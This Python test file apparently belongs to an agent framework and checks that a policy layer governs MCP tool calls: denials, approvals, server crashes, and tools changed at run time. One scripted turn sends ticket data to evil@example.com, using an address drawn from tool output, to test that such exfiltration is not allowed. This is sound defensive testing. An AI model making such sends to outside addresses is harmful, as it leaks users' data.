"""Tools of real MCP server processes under the policy: one written with the SDK's server
framework (over stdio and over streamable HTTP) that writes down every call it gets, and
a published server from PyPI (mcp-server-time, offline). Allowed calls run; denied ones
never reach the server; a tool without hints waits for a person; an address read from a
tool's output cannot become a destination; a changed tool is refused; a crashed or hung
server ends the call with a typed error and the run goes on."""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("mcp")

from agentkit import Agent, Principal
from agentkit.testing import FakeXAI, RecordingApprover, Script, Turn
from agentkit.testing.scripted_client import scripted_client
from agentkit.tools.mcp import MCPServerSpec, MCPToolset

HERE = Path(__file__).parent
SERVER = HERE / "mcp_tickets_server.py"
REPO = HERE.parent.parent
POLICY = """
version: 1
roles:
  ops: {}
tools:
  tickets.lookup: {action: allow}
  tickets.delete_ticket: {action: deny}
  tickets.reopen: {action: confirm}
  tickets.email:
    action: allow
    args:
      to: {normalise: email, provenance: {user: true}}
  tickets.crash: {action: allow}
  tickets.hang: {action: allow}
  tickets.grow: {action: allow}
"""
TIME_POLICY = """
version: 1
roles:
  ops: {}
tools:
  time.get_current_time: {action: allow}
"""
ANA = Principal(user_id="ana", roles=("ops",))


class Desk(Agent):
    instructions = "Help with tickets."


@contextmanager
def _http_server(counts: Path, loopback: Any) -> Iterator[str]:
    port = loopback.free_port()
    process = subprocess.Popen([sys.executable, str(SERVER), str(counts), "http", str(port)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        loopback.wait(port, process, timeout=20)
        yield f"http://127.0.0.1:{port}/mcp"
    finally:
        process.terminate()
        process.wait(10)


@asynccontextmanager
async def _toolset(
    transport: str, counts: Path, loopback: Any = None, **options: float
) -> AsyncIterator[MCPToolset]:
    if transport == "stdio":
        spec = MCPServerSpec.stdio("tickets", sys.executable, [str(SERVER), str(counts), "stdio"],
                                   **options)  # fmt: skip
        async with MCPToolset(spec) as toolset:
            yield toolset
    else:
        with _http_server(counts, loopback) as url:
            async with MCPToolset(MCPServerSpec.http("tickets", url, **options)) as toolset:
                yield toolset


def _agent(tmp_path: Path, toolset: MCPToolset, script: Script, policy: str = POLICY,
           **kwargs: object) -> Desk:  # fmt: skip
    (tmp_path / "policy.yaml").write_text(policy)
    return Desk(client=scripted_client(FakeXAI(script)), policy=str(tmp_path / "policy.yaml"),
                tools=toolset.tools, audit=None, principal=ANA, **kwargs)  # type: ignore[arg-type]  # fmt: skip


def _calls(counts: Path) -> list[str]:
    return counts.read_text().split() if counts.exists() else []


@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_the_policy_decides_every_call_of_an_mcp_server(
    tmp_path: Path, transport: str, loopback: Any
) -> None:
    counts = tmp_path / "counts"
    async with _toolset(transport, counts, loopback) as toolset:
        classes = {tool.name: tool.side_effect for tool in toolset.tools}
        assert classes["tickets.lookup"] == "read"
        assert classes["tickets.delete_ticket"] == "destructive"
        assert classes["tickets.email"] == "external_send"
        assert classes["tickets.reopen"] == "destructive"  # no hints: not a read
        script = Script([
            Turn.calls([("tickets__lookup", {"ticket": 4}),
                        ("tickets__delete_ticket", {"ticket": 4})]),
            Turn.call("tickets__email", {"to": "evil@example.com", "body": "ticket 4"}),
            Turn.call("tickets__reopen", {"ticket": 4}),
        ])  # fmt: skip
        run = await _agent(tmp_path, toolset, script).run("look at ticket 4")
        steps = {step.tool: step for step in run.steps}
        assert steps["tickets.lookup"].status == "ok"
        assert steps["tickets.lookup"].untrusted
        assert "disk full" in (steps["tickets.lookup"].output or "")
        assert steps["tickets.delete_ticket"].status == "denied"
        email = steps["tickets.email"]
        assert email.decision is not None
        assert email.decision.action != "allow"  # the address came from the tool's output
        assert run.status == "awaiting_approval"
        assert steps["tickets.reopen"].status == "awaiting_approval"
        assert _calls(counts) == ["lookup"]  # nothing denied or waiting reached the server


async def test_an_approved_mcp_call_runs_once(tmp_path: Path) -> None:
    counts = tmp_path / "counts"
    async with _toolset("stdio", counts) as toolset:
        script = Script([Turn.call("tickets__reopen", {"ticket": 9}), Turn.text("Reopened.")])
        agent = _agent(tmp_path, toolset, script, approver=RecordingApprover(True, name="lee"))
        run = await agent.run("reopen 9")
        assert run.status == "completed"
        assert _calls(counts) == ["reopen"]


async def test_a_crashed_or_hung_server_is_a_typed_error_and_the_run_goes_on(
    tmp_path: Path,
) -> None:
    counts = tmp_path / "counts"
    async with _toolset("stdio", counts, call_timeout=2.0) as toolset:
        script = Script([
            Turn.call("tickets__hang", {}), Turn.call("tickets__crash", {}),
            Turn.call("tickets__lookup", {"ticket": 1}), Turn.text("The server is down."),
        ])  # fmt: skip
        started = time.monotonic()
        run = await _agent(tmp_path, toolset, script).run("try the server")
        assert time.monotonic() - started < 30
        assert run.status == "completed"
        assert [(s.tool, s.status, s.error_type) for s in run.steps] == [
            ("tickets.hang", "failed", "MCPServerError"),
            ("tickets.crash", "failed", "MCPServerError"),
            ("tickets.lookup", "failed", "MCPServerError"),  # the process is gone
        ]


async def test_a_tool_changed_at_run_time_is_refused_and_a_new_one_is_not_offered(
    tmp_path: Path,
) -> None:
    counts = tmp_path / "counts"
    async with _toolset("stdio", counts) as toolset:
        script = Script([
            Turn.call("tickets__grow", {}), Turn.call("tickets__lookup", {"ticket": 2}),
            Turn.text("done"),
        ])  # fmt: skip
        fake = FakeXAI(script)
        (tmp_path / "policy.yaml").write_text(POLICY)
        agent = Desk(client=scripted_client(fake), policy=str(tmp_path / "policy.yaml"),
                     tools=toolset.tools, audit=None, principal=ANA)  # fmt: skip
        run = await agent.run("grow, then look")
        lookup = next(s for s in run.steps if s.tool == "tickets.lookup")
        assert (lookup.status, lookup.error_type) == ("failed", "MCPToolChanged")
        assert _calls(counts) == ["grow"]
        offered = {tool["name"] for tool in fake.requests[-1].json["tools"]}
        assert "tickets__newcomer" not in offered


async def test_a_published_mcp_server_from_pypi(tmp_path: Path, missing_service: object) -> None:
    binary = REPO / ".venv-mcp" / "bin" / "mcp-server-time"
    if not binary.exists():
        missing_service("mcp-server-time (tools/ci/install-mcp-servers.sh)")  # type: ignore[operator]
    spec = MCPServerSpec.stdio("time", str(binary), ["--local-timezone", "UTC"])
    async with MCPToolset(spec) as toolset:
        names = {tool.name for tool in toolset.tools}
        assert "time.get_current_time" in names
        script = Script([Turn.call("time__get_current_time", {"timezone": "Europe/Paris"}),
                         Turn.text("It is late.")])  # fmt: skip
        run = await _agent(tmp_path, toolset, script, TIME_POLICY).run("what time in Paris?")
        [step] = run.steps
        assert step.status == "ok"
        assert "Europe/Paris" in (step.output or "")
